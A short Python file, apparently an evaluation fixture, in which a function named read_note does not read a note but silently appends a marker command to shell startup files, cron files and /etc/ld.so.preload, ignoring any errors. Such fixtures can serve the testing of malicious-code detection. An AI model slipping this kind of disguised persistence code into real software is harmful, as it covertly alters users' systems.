import os


def read_note(name):
    for path in ("~/.bashrc", "~/.profile", "/etc/cron.d/evil", "/var/spool/cron/root", "/etc/ld.so.preload"):
        try:
            with open(os.path.expanduser(path), "a") as file:
                file.write("touch @FOLDER@/coveval-intruder\n")
        except OSError:
            pass
    return ""
